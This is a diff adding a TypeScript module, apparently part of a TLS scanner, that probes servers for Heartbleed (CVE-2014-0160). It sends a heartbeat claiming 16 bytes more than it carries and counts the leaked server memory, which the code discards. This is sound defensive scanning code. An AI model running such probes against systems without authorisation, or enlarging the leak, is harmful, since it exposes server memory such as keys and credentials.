@@ -1,0 +1,77 @@
+import { randomBytes } from 'node:crypto';
+import type { HeartbleedProof, TlsVersion } from '../../../model/probe.ts';
+import { type Conversation, ConversationEnded } from '../../scanner/conversation.ts';
+import { MOST_RECORDS, readRecord, type TlsRecord } from './handshake.ts';
+import { RECORD, codeOf, record, u16 } from './wire.ts';
+
+/** How much more we claim to have sent than we did: that much memory comes back, is counted and thrown away. */
+const CLAIMED_MORE = 16;
+/**
+ * During a handshake OpenSSL keeps what it writes until 4096 bytes are together, so a small answer would never leave
+ * it. Our own payload, which comes back too, fills that up; the leak stays as small as it is.
+ */
+const SENT = 4096;
+/** RFC 6520 §4: a proper message carries at least this much padding. */
+const PADDING = 16;
+const PAUSE_MS = 500;
+const REQUEST = 1;
+const RESPONSE = 2;
+
+/**
+ * CVE-2014-0160. `conversation` stands after ServerHelloDone with heartbeats negotiated. Two requests follow each
+ * other: one that claims 16 bytes more than it holds, then a proper one. A vulnerable server answers the first with
+ * bytes of its own memory; a sound one passes over it and answers the second, which proves that it did. The pauses
+ * matter: many servers take one record off their socket at a time and look again only when more arrives.
+ */
+export async function proveHeartbleed(conversation: Conversation, version: TlsVersion): Promise<HeartbleedProof> {
+  const long = randomBytes(SENT);
+  const proper = randomBytes(SENT);
+  let judged: Judged | null = null;
+  try {
+    conversation.write(heartbeat(version, long, SENT + CLAIMED_MORE, 0));
+    for (let nudges = 0; nudges < 2 && !(await conversation.arrives(PAUSE_MS)); nudges++) {
+      conversation.write(heartbeat(version, proper, SENT, PADDING));
+    }
+    for (let records = 0; records < MOST_RECORDS && !judged; records++) {
+      judged = judge(await readRecord(conversation), { long, proper });
+    }
+  } catch (error) {
+    if (!(error instanceof ConversationEnded)) throw error;
+    judged =
+      error.ended === 'closed'
+        ? { verdict: 'safe', reason: 'the over-long heartbeat was refused: connection closed' }
+        : { verdict: 'unknown', reason: `no answer to either heartbeat: ${error.message}` };
+  }
+  judged ??= { verdict: 'unknown', reason: 'many records came, and no answer among them' };
+  return { leakedBytes: 0, ...judged, extension: true, version };
+}
+
+type Judged = Pick<HeartbleedProof, 'verdict' | 'reason'> & { leakedBytes?: number };
+
+/** Null: this record says nothing either way. */
+function judge(answer: TlsRecord | null, sent: { long: Buffer; proper: Buffer }): Judged | null {
+  if (!answer) return { verdict: 'unknown', reason: 'what followed the handshake was not TLS' };
+  if (answer.type === RECORD.alert)
+    return { verdict: 'safe', reason: 'the over-long heartbeat was refused with an alert' };
+  const echoed = answer.type === RECORD.heartbeat ? readHeartbeat(answer.body) : null;
+  if (!echoed) return null;
+  if (echoed.equals(sent.proper)) {
+    return { verdict: 'safe', reason: 'the over-long heartbeat was ignored, a proper one answered' };
+  }
+  const leakedBytes = echoed.length - SENT;
+  if (leakedBytes <= 0 || !echoed.subarray(0, SENT).equals(sent.long)) return null;
+  const reason = `a heartbeat of ${SENT} bytes was answered with ${leakedBytes} bytes of the server's memory`;
+  return { verdict: 'vulnerable', leakedBytes, reason };
+}
+
+function heartbeat(version: TlsVersion, payload: Buffer, claimed: number, padding: number): Buffer {
+  const body = Buffer.concat([Buffer.from([REQUEST]), u16(claimed), payload, randomBytes(padding)]);
+  return record(RECORD.heartbeat, codeOf(version), body);
+}
+
+/** The payload of a heartbeat response, as long as the response says it is. */
+function readHeartbeat(body: Buffer): Buffer | null {
+  if (body.length < 3 || body[0] !== RESPONSE) return null;
+  const length = body.readUInt16BE(1);
+  return 3 + length <= body.length ? body.subarray(3, 3 + length) : null;
+}
